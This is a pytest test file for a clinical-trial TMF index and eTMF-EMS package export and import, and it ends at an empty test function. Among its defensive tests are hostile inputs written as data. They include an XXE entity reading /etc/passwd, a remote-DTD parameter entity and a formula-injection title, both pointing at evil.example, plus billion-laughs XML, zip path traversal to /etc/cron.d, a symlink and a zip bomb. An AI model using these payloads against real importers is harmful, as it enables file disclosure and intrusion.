"""The TMF index (CSV, Excel), eTMF-EMS packages out and in, their commands, and the background export page."""

import base64
import copy
import csv
import datetime
import hashlib
import io
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote
from xml.etree import ElementTree as ET

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import timezone
from lxml import etree

from consent import services as consent_services
from consent.tests.factories import make_form
from regulatory import tmf
from regulatory.management.commands import tmf_index
from regulatory.models import AuditEntry, TmfDocument, TmfExportJob
from regulatory.tests.factories import make_grant, make_opinion, make_site, make_trial, make_user, make_version
from regulatory.tmf import exchange, filing
from tests.sharing import shared_fixture

NS = {"ems": exchange.NAMESPACE}
FORMULA_TITLE = '=HYPERLINK("http://evil.example","cliquez")'
PDF = b"%PDF-1.4\n% uploaded clinical trial agreement\n%%EOF\n"


def upload(trial, site, *, title=FORMULA_TITLE, data=PDF, artifact="05.02.12"):
    document = TmfDocument(trial=trial, artifact=tmf.artifact(artifact), level="site", site=site,
                           country=site.country, title=title, document_date=datetime.date(2026, 3, 2),
                           version="2", file_name="contrat.pdf", sha256=hashlib.sha256(data).hexdigest())
    document.file.save("contrat.pdf", ContentFile(data), save=True)
    return document


@shared_fixture
def tmf_world(world):
    """A small TMF: a protocol and its favourable opinion, a consent form effective at DIJ, a contract at LIL."""
    version = make_version(trial=world.trial, number="1.0", title="Protocole ARGI v1.0")
    make_opinion(trial=world.trial, version=version)
    form = make_form(trial=world.trial)
    consent_services.form_make_effective(actor=world.sponsor, version=form, sites=[world.site_a],
                                         effective_from=timezone.now() - datetime.timedelta(hours=1))
    uploaded = upload(world.trial, world.site_b)
    world.uploaded = uploaded
    world.version = version
    return world


@shared_fixture
def twin():
    """A third trial whose sites have the same codes, to receive a package."""
    trial = make_trial(nct_number="NCT07999999", title="Essai jumeau")
    return SimpleNamespace(trial=trial, dij=make_site(trial=trial, code="DIJ"), lil=make_site(trial=trial, code="LIL"))


def export(trial, tmp_path, name="package.zip", **kwargs):
    path = tmp_path / name
    summary = exchange.export_package(trial, path, **kwargs)
    return path, summary


def rewrite(source, target, *, change=None, drop=(), add=()):
    """Copy a zip, with `change(name, data) -> data` applied, entries dropped or (name, data) added."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as copy:
        for info in original.infolist():
            if info.filename in drop:
                continue
            data = original.read(info.filename)
            copy.writestr(info.filename, change(info.filename, data) if change else data)
        for name, data in add:
            copy.writestr(name, data)
    return target


def inventory(path):
    with zipfile.ZipFile(path) as package:
        return ET.fromstring(package.read("exchange.xml"))  # noqa: S314 — our own export


SCHEMA_DIR = Path(exchange.__file__).resolve().parent / "tmf_schema"
XSD = SCHEMA_DIR / "TmfReferenceModelExchange.xsd"
EXAMPLE = SCHEMA_DIR / "example.xml"
DOCX = Path(__file__).resolve().parents[2] / "tests" / "fixtures" / "docx"


def official_schema():
    """The shipped EMS schema, compiled here with lxml, independently of the code under test."""
    return etree.XMLSchema(etree.parse(str(XSD)))


def assert_schema_valid(path):
    with zipfile.ZipFile(path) as package:
        root = etree.fromstring(package.read("exchange.xml"))  # our own export or a package a test wrote
    official_schema().assertValid(root)  # raises DocumentInvalid naming the first error


def nothing_written(trial, before_docs, before_audit):
    assert TmfDocument.objects.filter(trial=trial).count() == before_docs
    assert AuditEntry.objects.count() == before_audit


# --- Index -----------------------------------------------------------------------------------------------------

def test_index_rows_one_per_document_stable_with_the_checksum_of_what_a_reader_downloads(tmf_world):
    documents = TmfDocument.objects.filter(trial=tmf_world.trial)
    rows = exchange.index_rows(tmf_world.trial, documents)
    assert len(rows) == documents.count() >= 6
    assert list(rows[0]) == list(exchange.COLUMNS)
    assert rows == exchange.index_rows(tmf_world.trial, documents.order_by("-pk"))
    numbers = [row["artifact_number"] for row in rows]
    assert numbers == sorted(numbers)
    assert {"02.01.02", "02.02.03", "02.02.04", "04.01.02", "05.02.12"} <= set(numbers)
    contract = next(row for row in rows if row["artifact_number"] == "05.02.12")
    assert contract == {**contract, "level": "site", "site": "LIL", "country": "FR", "title": FORMULA_TITLE,
                        "document_date": "2026-03-02", "version": "2", "status": "current",
                        "sha256": hashlib.sha256(PDF).hexdigest(), "zone": "05 Site Management"}
    assert contract["filed_at"].endswith("+00:00")
    for row, document in zip(rows, exchange.ordered(documents), strict=True):
        assert row["sha256"] == hashlib.sha256(filing.content(document).data).hexdigest()


def test_index_csv_is_utf8_with_bom_and_neutralises_formulas(tmf_world):
    rows = exchange.index_rows(tmf_world.trial, None)
    out = io.BytesIO()
    exchange.write_index(rows, "csv", out)
    raw = out.getvalue()
    assert raw.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert table[0][:3] == ["Zone", "Section", "N° d'artefact"]
    assert len(table) == len(rows) + 1
    titles = [line[7] for line in table[1:]]
    assert "'" + FORMULA_TITLE in titles
    assert FORMULA_TITLE not in titles


def test_index_xlsx_reads_back_as_text_with_formulas_neutralised(tmf_world, tmp_path):
    from openpyxl import load_workbook

    rows = exchange.index_rows(tmf_world.trial, None)
    path = tmp_path / "index.xlsx"
    exchange.write_index(rows, "xlsx", path)
    sheet = load_workbook(path).active
    values = [[cell.value for cell in line] for line in sheet.iter_rows()]
    assert values[0][0] == "Zone"
    assert len(values) == len(rows) + 1
    title_cells = [line[7] for line in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in title_cells)
    # A text cell shown as filed, never a formula; the CSV quote guard is not shown in XLSX (issue 12).
    assert FORMULA_TITLE in [cell.value for cell in title_cells]
    assert "'" + FORMULA_TITLE not in [cell.value for cell in title_cells]
    assert values[1][exchange.COLUMNS.index("sha256")] == rows[0]["sha256"]
    assert not list(tmp_path.glob("*.part"))


def test_index_refuses_an_unknown_format(tmf_world):
    with pytest.raises(ValueError, match="csv"):
        exchange.write_index([], "ods", io.BytesIO())


# --- Export and verification --------------------------------------------------------------------------------

def test_export_writes_every_file_in_its_folder_and_an_inventory(tmf_world, tmp_path):
    calls = []
    path, summary = export(tmf_world.trial, tmp_path, progress=lambda done, total: calls.append((done, total)))
    count = TmfDocument.objects.filter(trial=tmf_world.trial).count()
    assert summary.count == count
    assert calls == [(n, count) for n in range(1, count + 1)]
    assert summary.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert [p.name for p in tmp_path.iterdir()] == ["package.zip"]  # no temporary file left
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
    assert "exchange.xml" in names and len(names) == count + 1
    assert "05_Site_Management/05.02_Site_Set-up/05.02.12_Clinical_Trial_Agreement/site_LIL/" \
           "HYPERLINK_http_evil.example_cliquez_v2.pdf" in names
    assert all(not name.startswith("/") and ".." not in name.split("/") for name in names)

    root = inventory(path)
    assert root.tag == f"{{{exchange.NAMESPACE}}}BATCH"
    assert root.get("STUDYID") == "NCT07063680"
    assert root.get("TRANSFERSOURCEID") == "TrialDocs"
    assert root.get("TMFRMVERSION") == "3.3.1"
    assert root.findall("ems:METADATA", NS) == []  # the schema has none on BATCH
    assert re.fullmatch(r"\d{14}", root.get("TRANSFERID"))
    objects = root.findall("ems:OBJECT", NS)
    assert len(objects) == count
    contract = next(o for o in objects if o.findtext("ems:ARTIFACTNUMBER", namespaces=NS) == "05.02.12")
    assert contract.findtext("ems:OBJECTLEVEL", namespaces=NS) == "Site"
    assert contract.findtext("ems:COUNTRYID", namespaces=NS) == "FRA"
    assert contract.findtext("ems:SITEID", namespaces=NS) == "LIL"
    assert contract.findtext("ems:UNIQUEID", namespaces=NS) == "095"
    assert contract.findtext("ems:OBJECTVERSIONSTATE", namespaces=NS) == "Current"
    assert contract.findtext("ems:ARTIFACTDATE", namespaces=NS) == "02-MAR-2026"
    meta = {m.get("NAME"): m.text for m in contract.findall("ems:METADATA", NS)}
    assert meta["SHA256"] == hashlib.sha256(PDF).hexdigest()
    assert meta["FILESIZE"] == str(len(PDF))
    assert meta["ARTIFACTNAME"] == "Clinical Trial Agreement"
    assert meta["SPONSOR"] == "CHU Test" and meta["VERSION"] == "2"
    protocol = next(o for o in objects if o.findtext("ems:ARTIFACTNUMBER", namespaces=NS) == "02.01.02")
    events = [r.findtext("ems:AUDITEVENT", namespaces=NS) for r in protocol.findall("ems:FILE/ems:AUDITRECORD", NS)]
    assert "protocolversion.created" in events
    record = protocol.find("ems:FILE/ems:AUDITRECORD", NS)
    assert record.findtext("ems:USERREF", namespaces=NS) == "system"
    assert record.findtext("ems:DATETIMESTAMP", namespaces=NS).endswith("+00:00")
    entry = AuditEntry.objects.filter(action="tmf.package_exported").get()
    assert entry.changes["sha256"] == [None, summary.sha256]


def test_a_failing_export_leaves_no_package(tmf_world, tmp_path, monkeypatch):
    real = filing.content
    calls = []

    def flaky(document):
        calls.append(document)
        if len(calls) == 3:
            raise OSError("disk gone")
        return real(document)

    monkeypatch.setattr(filing, "content", flaky)
    with pytest.raises(OSError):
        exchange.export_package(tmf_world.trial, tmp_path / "package.zip")
    assert list(tmp_path.iterdir()) == []
    assert not AuditEntry.objects.filter(action="tmf.package_exported").exists()


def test_a_fresh_export_verifies(tmf_world, tmp_path):
    path, _summary = export(tmf_world.trial, tmp_path)
    assert exchange.verify_package(path) == []


def test_one_changed_byte_is_reported(tmf_world, tmp_path):
    path, _summary = export(tmf_world.trial, tmp_path)
    target = next(n for n in zipfile.ZipFile(path).namelist() if n.endswith("_v2.pdf"))

    def flip(name, data):
        return data[:10] + bytes([data[10] ^ 1]) + data[11:] if name == target else data

    tampered = rewrite(path, tmp_path / "tampered.zip", change=flip)
    problems = exchange.verify_package(tampered)
    assert len(problems) == 1
    assert target in problems[0] and "SHA-256" in problems[0]


def test_a_byte_changed_inside_the_zip_itself_is_reported(tmf_world, tmp_path):
    path, _summary = export(tmf_world.trial, tmp_path)
    with zipfile.ZipFile(path) as package:
        info = next(i for i in package.infolist() if i.filename.endswith("_v2.pdf"))
    raw = bytearray(path.read_bytes())
    offset = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + 5
    raw[offset] ^= 0xFF
    path.write_bytes(bytes(raw))
    problems = exchange.verify_package(path)
    assert len(problems) == 1 and info.filename in problems[0]


def test_missing_and_unlisted_files_are_reported(tmf_world, tmp_path):
    path, _summary = export(tmf_world.trial, tmp_path)
    target = next(n for n in zipfile.ZipFile(path).namelist() if n.endswith("_v2.pdf"))
    changed = rewrite(path, tmp_path / "changed.zip", drop=[target], add=[("extra/notes.txt", b"x")])
    problems = exchange.verify_package(changed)
    assert any(target in p and "manquant" in p for p in problems)
    assert any("extra/notes.txt" in p for p in problems)


# --- Import -----------------------------------------------------------------------------------------------------

# An imported document waits for QC in its new TMF (issue 19), whatever it was in the old one.
SAME = [c for c in exchange.COLUMNS if c not in ("file_name", "filed_at", "qc_status")]


def test_round_trip_into_a_trial_with_the_same_site_codes_keeps_every_column(tmf_world, twin, tmp_path):
    path, _summary = export(tmf_world.trial, tmp_path)
    result = exchange.import_package(path, trial=twin.trial, actor=None)
    imported = result.documents
    assert result.refused == []
    assert len(imported) == TmfDocument.objects.filter(trial=tmf_world.trial).count()
    original = exchange.index_rows(tmf_world.trial, None)
    copy = exchange.index_rows(twin.trial, None)
    assert [{c: row[c] for c in SAME} for row in copy] == [{c: row[c] for c in SAME} for row in original]
    assert all(row["file_name"].startswith("NCT07999999-") for row in copy)
    assert {row["qc_status"] for row in copy} == {"pending"}
    contract = TmfDocument.objects.get(trial=twin.trial, artifact__number="05.02.12")
    assert contract.site == twin.lil and contract.is_uploaded and contract.file_name.endswith(".pdf")
    assert contract.sha256 == hashlib.sha256(contract.file.read()).hexdigest()
    entry = AuditEntry.objects.get(action="tmf.package_imported")
    assert entry.trial_id == twin.trial.pk and entry.actor_label == "system"
    assert entry.changes["documents"] == [None, len(imported)]
    assert AuditEntry.objects.filter(action="tmf.document_imported").count() == len(imported)
    # The copy exports and verifies in turn, with its import in its audit records.
    again, _summary = export(twin.trial, tmp_path, name="again.zip")
    assert exchange.verify_package(again) == []
    assert "tmf.document_imported" in [e.text for e in inventory(again).iter(f"{{{exchange.NAMESPACE}}}AUDITEVENT")]


def test_import_into_a_trial_without_those_site_codes_writes_nothing(tmf_world, tmp_path):
    path, _summary = export(tmf_world.trial, tmp_path)
    before = (TmfDocument.objects.filter(trial=tmf_world.other_trial).count(), AuditEntry.objects.count())
    with pytest.raises(ValidationError) as refused:
        exchange.import_package(path, trial=tmf_world.other_trial, actor=tmf_world.other_sponsor)
    assert "DIJ, LIL" in refused.value.messages[0]
    nothing_written(tmf_world.other_trial, *before)


def _bomb():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("exchange.xml", b"<BATCH/>")
        package.writestr("zeros.bin", b"\0" * (4 * 1024 * 1024))
    return buffer.getvalue()


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
                  b'<BATCH xmlns="https://tmfrefmodel.com/ems">&lol2;</BATCH>')


XXE = (b'<?xml version="1.0"?>\n<!DOCTYPE BATCH [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
PARAMETER_ENTITY = (b'<?xml version="1.0"?>\n<!DOCTYPE BATCH [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">'
                    b' %remote;]>\n')


def _first_title(data: bytes, text: bytes) -> bytes:
    return re.sub(rb"<OBJECTTITLE>[^<]*</OBJECTTITLE>", b"<OBJECTTITLE>" + text + b"</OBJECTTITLE>", data, count=1)


def _body(data: bytes) -> bytes:
    return data.split(b"?>", 1)[1]


INVENTORY_ATTACKS = {
    # An external entity would read a server file into a title; a parameter entity would fetch a remote DTD.
    "external_entity": lambda d: XXE + _first_title(_body(d), b"&xxe;"),
    "parameter_entity": lambda d: PARAMETER_ENTITY + _body(d),
    "utf16_doctype": lambda d: (XXE.replace(b"1.0\"", b'1.0" encoding="UTF-16"') + _body(d)).decode().encode("utf-16"),
    # The prose of the standard spells it RETENTIONDATE; the schema, which receivers validate with, RENTENTIONDATE.
    "prose_spelling": lambda d: d.replace(b"</OBJECTCOPY>", b"</OBJECTCOPY><RETENTIONDATE>20-JAN-2034</RETENTIONDATE>",
                                          1),
    "xinclude": lambda d: _first_title(d, b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                          b'href="file:///etc/passwd" parse="text"/>'),
    "deep": lambda d: _first_title(d, b"<b>" * 300 + b"</b>" * 300),
    "outside": lambda d: re.sub(rb"<CONTENTURL>[^<]*</CONTENTURL>",
                                b"<CONTENTURL>https://evil.example/contrat.pdf</CONTENTURL>", d, count=1),
    # The schema example's own INTEGRITY (32 hex digits: no SHA-256), and no METADATA SHA256 to fall back on.
    "no_usable_integrity": lambda d: re.sub(rb'<METADATA NAME="SHA256">[^<]*</METADATA>', b"", re.sub(
        rb"<INTEGRITY>[^<]*</INTEGRITY>", b"<INTEGRITY>SHA256-81788ba0d7d02d81c063dbca621ba11b</INTEGRITY>", d,
        count=1), count=1),
}


@pytest.mark.parametrize(("case", "message"), [
    ("traversal", "dangereux"),
    ("absolute", "dangereux"),
    ("doctype", "DOCTYPE"),
    ("no_inventory", "exchange.xml"),
    ("checksum", "SHA-256"),
    ("malformed", "XML"),
    ("bomb", "bombe"),
    ("not_a_zip", "zip"),
    ("external_entity", "DOCTYPE"),
    ("parameter_entity", "DOCTYPE"),
    ("utf16_doctype", "UTF-8"),
    ("prose_spelling", "RETENTIONDATE"),
    ("xinclude", "OBJECTTITLE"),
    ("deep", "XML_PARSE_HUGE"),
    ("outside", "https://evil.example/contrat.pdf"),
    ("no_usable_integrity", "SHA256-81788ba0d7d02d81c063dbca621ba11b"),
])
def test_hostile_packages_are_refused_with_nothing_written(tmf_world, twin, tmp_path, case, message):
    path, _summary = export(tmf_world.trial, tmp_path)
    hostile = tmp_path / f"{case}.zip"
    first = next(n for n in zipfile.ZipFile(path).namelist() if n != "exchange.xml")
    if case == "traversal":
        rewrite(path, hostile, add=[("../../evil.txt", b"x")])
    elif case == "absolute":
        rewrite(path, hostile, add=[("/etc/cron.d/evil", b"x")])
    elif case == "doctype":
        rewrite(path, hostile, change=lambda n, d: BILLION_LAUGHS if n == "exchange.xml" else d)
    elif case == "no_inventory":
        rewrite(path, hostile, drop=["exchange.xml"])
    elif case == "checksum":
        rewrite(path, hostile, change=lambda n, d: d + b" " if n == first else d)
    elif case == "malformed":
        rewrite(path, hostile, change=lambda n, d: d[: len(d) // 2] if n == "exchange.xml" else d)
    elif case == "bomb":
        hostile.write_bytes(_bomb())
    elif case in INVENTORY_ATTACKS:
        rewrite(path, hostile, change=lambda n, d: INVENTORY_ATTACKS[case](d) if n == "exchange.xml" else d)
    else:
        hostile.write_bytes(b"PK\x03\x04 this is no zip")
    before = (TmfDocument.objects.filter(trial=twin.trial).count(), AuditEntry.objects.count())
    with pytest.raises(ValidationError) as refused:
        exchange.import_package(hostile, trial=twin.trial, actor=None)
    assert any(message in problem for problem in refused.value.messages), refused.value.messages
    nothing_written(twin.trial, *before)


def test_a_huge_inventory_is_refused_before_parsing(tmf_world, twin, tmp_path, monkeypatch):
    path, _summary = export(tmf_world.trial, tmp_path)
    size = zipfile.ZipFile(path).getinfo("exchange.xml").file_size
    monkeypatch.setattr(exchange.package, "MAX_INVENTORY_BYTES", size - 1)
    assert exchange.verify_package(path) == ["exchange.xml est trop volumineux."]
    with pytest.raises(ValidationError):
        exchange.import_package(path, trial=twin.trial, actor=None)
    assert not TmfDocument.objects.filter(trial=twin.trial).exists()


def test_a_text_node_over_libxml2s_limit_is_refused(tmf_world, twin, tmp_path):
    """Over 10 MB of text in one title, incompressible so that no zip-bomb check stops it first: libxml2's limit
    (no `huge_tree`) refuses it."""
    path, _summary = export(tmf_world.trial, tmp_path)
    huge = rewrite(path, tmp_path / "huge.zip", change=lambda n, d: _first_title(d, base64.b64encode(
        hashlib.shake_256(b"title").digest(8 * 1024 * 1024))) if n == "exchange.xml" else d)
    problems = exchange.verify_package(huge)
    assert len(problems) == 1 and "XML_PARSE_HUGE" in problems[0]
    with pytest.raises(ValidationError):
        exchange.import_package(huge, trial=twin.trial, actor=None)
    assert not TmfDocument.objects.filter(trial=twin.trial).exists()


def test_too_many_entries_are_refused_before_reading(tmf_world, twin, tmp_path, monkeypatch):
    path, _summary = export(tmf_world.trial, tmp_path)
    monkeypatch.setattr(exchange.package, "MAX_ENTRIES", 3)
    problems = exchange.verify_package(path)
    assert len(problems) == 1 and "trop" in problems[0]
    with pytest.raises(ValidationError):
        exchange.import_package(path, trial=twin.trial, actor=None)
    assert not TmfDocument.objects.filter(trial=twin.trial).exists()


def test_oversized_totals_links_and_duplicates_are_refused(tmf_world, twin, tmp_path, monkeypatch):
    path, _summary = export(tmf_world.trial, tmp_path)
    monkeypatch.setattr(exchange.package, "MAX_TOTAL_BYTES", 1000)
    assert any("trop volumineux" in p for p in exchange.verify_package(path))
    monkeypatch.undo()
    link = zipfile.ZipInfo("05_Site_Management/link.pdf")
    link.external_attr = 0o120777 << 16
    linked = tmp_path / "link.zip"
    with zipfile.ZipFile(path) as original, zipfile.ZipFile(linked, "w") as copy:
        for info in original.infolist():
            copy.writestr(info, original.read(info))
        copy.writestr(link, b"/etc/passwd")
    assert any("Lien symbolique" in p for p in exchange.verify_package(linked))
    with pytest.raises(ValidationError):
        exchange.import_package(linked, trial=twin.trial, actor=None)
    assert not TmfDocument.objects.filter(trial=twin.trial).exists()


# --- The official EMS schema ------------------------------------------------------------------------------------

def test_the_shipped_schema_is_the_official_one():
    """The copies in regulatory/tmf/exchange/tmf_schema are the reference ones, byte for byte (SOURCES.md gives
    their SHA-256), and the schema's own example validates against it."""
    sources = (SCHEMA_DIR / "SOURCES.md").read_text()
    for path in (XSD, EXAMPLE):
        assert f"`{path.name}`" in sources and hashlib.sha256(path.read_bytes()).hexdigest() in sources
    assert etree.parse(str(XSD)).getroot().get("targetNamespace") == exchange.NAMESPACE
    official_schema().assertValid(etree.parse(str(EXAMPLE)))


def test_every_export_validates_against_the_official_schema(tmf_world, twin, tmp_path):
    """Whatever the TMF holds: no version, every state, a country without an alpha-3 code, characters XML cannot
    carry, markup in titles, a site abroad; and the export of an imported copy."""
    trial = tmf_world.trial
    upload(trial, tmf_world.site_a, title="Sans version <b>&amp;</b> \x0b« accentué »", artifact="05.02.12")
    TmfDocument.objects.filter(trial=trial, title__startswith="Sans version").update(version="", status="withdrawn")
    abroad = make_site(trial=trial, code="GVA", country="CH")
    upload(trial, abroad, title="Contrat Genève", artifact="05.02.12")
    TmfDocument.objects.filter(trial=trial, title="Contrat Genève").update(status="superseded")
    letter = TmfDocument(trial=trial, artifact=tmf.artifact("03.03.02"), level="country", country="XK",
                         title="Rapport", document_date=datetime.date(2026, 4, 1), file_name="r.pdf",
                         sha256=hashlib.sha256(PDF).hexdigest())
    letter.file.save("r.pdf", ContentFile(PDF), save=True)
    path, summary = export(trial, tmp_path)
    assert_schema_valid(path)
    root = inventory(path)
    versions = {o.findtext("ems:OBJECTTITLE", namespaces=NS): o.findtext("ems:OBJECTVERSION", namespaces=NS)
                for o in root.findall("ems:OBJECT", NS)}
    assert versions["Sans version <b>&amp;</b> « accentué »"] == "-"  # no vertical tab: XML cannot carry it
    states = {o.findtext("ems:OBJECTVERSIONSTATE", namespaces=NS) for o in root.findall("ems:OBJECT", NS)}
    assert states == {"Current", "Superseded", "Obsolete"}
    kosovo = next(o for o in root.findall("ems:OBJECT", NS)
                  if o.findtext("ems:OBJECTTITLE", namespaces=NS) == "Rapport")
    assert kosovo.find("ems:COUNTRYID", NS) is None
    assert {m.get("NAME"): m.text for m in kosovo.findall("ems:METADATA", NS)}["COUNTRY"] == "XK"

    make_site(trial=twin.trial, code="GVA", country="CH")
    result = exchange.import_package(path, trial=twin.trial, actor=None)
    assert result.refused == [] and len(result.documents) == summary.count
    again, _summary = export(twin.trial, tmp_path, name="again.zip")
    assert_schema_valid(again)
    copy_without_version = TmfDocument.objects.get(trial=twin.trial, title="Sans version <b>&amp;</b> « accentué »")
    assert (copy_without_version.version, copy_without_version.status) == ("", "withdrawn")


def test_an_empty_tmf_is_not_exported(world, as_user, tmp_path):
    """The schema wants at least one OBJECT: an empty TMF gets a message (function, command, page), no package."""
    assert not TmfDocument.objects.filter(trial=world.other_trial).exists()
    with pytest.raises(ValidationError) as refused:
        exchange.export_package(world.other_trial, tmp_path / "empty.zip")
    assert "NCT01234567" in refused.value.messages[0] and "aucun document" in refused.value.messages[0]
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(CommandError, match="NCT01234567"):
        call_command("tmf_export", "--trial", "NCT01234567", "--out", str(tmp_path / "empty.zip"))
    response = as_user(world.other_sponsor).post(reverse("tmf_exports", args=["NCT01234567"]), follow=True)
    assert response.status_code == 200 and "aucun document" in response.content.decode()
    assert not TmfExportJob.objects.exists()
    assert not AuditEntry.objects.filter(action__in=["tmf.package_exported", "tmf.export_requested"]).exists()


def test_a_package_of_the_old_layout_is_refused_by_the_schema(tmf_world, twin, tmp_path):
    """Exports made before the schema was followed had METADATA directly under BATCH: refused, saying so."""
    path, _summary = export(tmf_world.trial, tmp_path)
    old = rewrite(path, tmp_path / "old.zip", change=lambda n, d: d.replace(
        b'TMFRMVERSION="3.3.1">', b'TMFRMVERSION="3.3.1">\n  <METADATA NAME="SPONSOR">CHU Test</METADATA>', 1)
        if n == "exchange.xml" else d)
    problems = exchange.verify_package(old)
    assert len(problems) == 1
    assert "TmfReferenceModelExchange.xsd" in problems[0] and "METADATA" in problems[0] and "ligne 3" in problems[0]
    before = (TmfDocument.objects.filter(trial=twin.trial).count(), AuditEntry.objects.count())
    with pytest.raises(ValidationError):
        exchange.import_package(old, trial=twin.trial, actor=None)
    nothing_written(twin.trial, *before)


# --- Another system's package, built to the schema from its own example ------------------------------------------

def foreign_package(target, objects):
    """Write a package as another eTMF system would: the schema's example.xml, its one OBJECT copied for each
    (changes, file, url) of `objects` (changes: element → text, or None to leave the element out), each FILE
    carrying a real file, its SRI checksum (sha256 unless `changes` gives INTEGRITY's algorithm) and its URL."""
    tree = etree.parse(str(EXAMPLE))
    root = tree.getroot()
    template = root.find("ems:OBJECT", NS)
    root.remove(template)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for changes, source, url in objects:
            obj = copy.deepcopy(template)
            data = source.read_bytes()
            algorithm = changes.pop("ALGORITHM", "sha256")
            for name, value in changes.items():
                element = obj.find(f"ems:{name}", NS)
                if value is None:
                    obj.remove(element)
                else:
                    element.text = value
            file_element = obj.find("ems:FILE", NS)
            digest = hashlib.new(algorithm, data).digest()
            file_element.find("ems:INTEGRITY", NS).text = f"{algorithm}-{base64.b64encode(digest).decode()}"
            file_element.find("ems:FILENAME", NS).text = source.name
            file_element.find("ems:CONTENTURL", NS).text = url
            package.writestr(unquote(url), data)
            root.append(obj)
        package.writestr("exchange.xml", etree.tostring(tree, xml_declaration=True, encoding="UTF-8"))
    return target


SITE_LEVEL = {"SITEID": "DIJ", "SITESYSTEMID": "FR-21-DIJ", "COUNTRYID": "FRA", "ORGANIZATIONNAME": "CHU Dijon"}
TRIAL_LEVEL = {"OBJECTLEVEL": "Trial", "COUNTRYID": None, "SITESYSTEMID": None, "SITEID": None, "PERSONNAME": None,
               "ORGANIZATIONNAME": None}
ICF = DOCX / "ICF_NIH_ClinicalCenter_Template_v14_2026-01-26.docx"
PROTOCOL = DOCX / "Protocol_NIH_Interventional_Template_v9_2025-02-04.docx"
FRENCH_ICF = DOCX / "ICF_FR_IVG_Consentement_Mineure_Adulte_Referent.docx"


def cro_package(target):
    return foreign_package(target, [
        # The example's own object, at a site of the receiving trial.
        ({**SITE_LEVEL}, ICF, "05/05.02/05.02.01.Medical License/PCO-AKT-101-MED-001.docx"),
        # A superseded protocol, its URL percent-encoded, its checksum SHA-512.
        ({**TRIAL_LEVEL, "OBJECTID": "PCO-AKT-101-PRO-009", "ARTIFACTNUMBER": "02.01.02", "UNIQUEID": "8",
          "OBJECTVERSION": "9.0", "OBJECTVERSIONSTATE": "Superseded", "OBJECTTITLE": "NIH interventional protocol",
          "SUBARTIFACT": "Protocol", "ARTIFACTDATE": "04-FEB-2025", "ALGORITHM": "sha512"},
         PROTOCOL, "02/02.01/02.01.02%20Protocol/Protocol%20v9.docx"),
        # A country-level consent form without a title: its sub-artifact names it.
        ({"OBJECTID": "PCO-AKT-101-ICF-FRA", "OBJECTLEVEL": "Country", "COUNTRYID": "FRA", "SITESYSTEMID": None,
          "SITEID": None, "PERSONNAME": None, "ORGANIZATIONNAME": None,
          "ARTIFACTNUMBER": "02.02.03", "OBJECTLANGUAGE": "fr", "OBJECTTITLE": None,
          "SUBARTIFACT": "Formulaire de consentement (référent)", "ARTIFACTDATE": "15-MAR-2024"},
         FRENCH_ICF, "02/02.02/02.02.03/PCO-AKT-101-ICF-FRA.docx"),
        # An artifact the Reference Model 3.3.1 does not have.
        ({**SITE_LEVEL, "OBJECTID": "PCO-AKT-101-XXX-001", "ARTIFACTNUMBER": "99.99.99"},
         DOCX / "ICH_M11_Template_Step2_2025-02-03.docx", "99/PCO-AKT-101-XXX-001.docx"),
        # An artifact the Model files at site level only, sent at trial level.
        ({**TRIAL_LEVEL, "OBJECTID": "PCO-AKT-101-LVL-001"},
         DOCX / "ICH_M11_Template_Draft_2025-01-17_TrackedChanges.docx", "05/05.02/PCO-AKT-101-LVL-001.docx"),
    ])


def test_a_package_of_another_system_built_to_the_schema_is_imported(twin, tmp_path):
    path = cro_package(tmp_path / "cro.zip")
    assert_schema_valid(path)  # built to the schema, as the sender must
    with zipfile.ZipFile(path) as package:
        raw = package.read("exchange.xml")
    assert b"xsi:schemaLocation" in raw and b"<METADATA" in raw  # the example's own, ignored and kept
    assert exchange.verify_package(path) == []

    result = exchange.import_package(path, trial=twin.trial, actor=None)

    assert len(result.refused) == 2
    unknown, level = result.refused
    assert "PCO-AKT-101-XXX-001" in unknown and "99.99.99" in unknown
    assert "PCO-AKT-101-LVL-001" in level and "05.02.01" in level and "Trial" in level
    filed = {document.artifact.number: document for document in result.documents}
    assert set(filed) == {"05.02.01", "02.01.02", "02.02.03"}
    acceptance = filed["05.02.01"]
    assert (acceptance.level, acceptance.site, acceptance.country) == ("site", twin.dij, "FR")
    assert (acceptance.title, acceptance.version, acceptance.status) == (
        "Acceptance of Investigator Brochure Annex for Site US-204", "1.0", "current")
    assert acceptance.document_date == datetime.date(2018, 1, 23)
    protocol = filed["02.01.02"]
    assert (protocol.level, protocol.site, protocol.version, protocol.status) == ("trial", None, "9.0", "superseded")
    consent = filed["02.02.03"]
    assert (consent.level, consent.country, consent.title) == ("country", "FR", "Formulaire de consentement (référent)")
    for document, source in ((acceptance, ICF), (protocol, PROTOCOL), (consent, FRENCH_ICF)):
        document.refresh_from_db()
        assert document.file.read() == source.read_bytes()
        assert document.sha256 == hashlib.sha256(source.read_bytes()).hexdigest()
        assert document.file_name == source.name
    entry = AuditEntry.objects.get(action="tmf.package_imported")
    assert entry.changes["documents"] == [None, 3] and entry.changes["refused"] == [None, result.refused]
    assert entry.changes["source_study"] == [None, "ATEM-0025"]
    sources = {e.changes["source"][1] for e in AuditEntry.objects.filter(action="tmf.document_imported")}
    assert sources == {f"ATEM-0025 PCO-AKT-101-{code}" for code in ("MED-001", "PRO-009", "ICF-FRA")}
    # What was filed leaves again in a package that validates.
    again, _summary = export(twin.trial, tmp_path, name="again.zip")
    assert_schema_valid(again)


def test_a_package_with_nothing_to_file_is_refused_whole(twin, tmp_path):
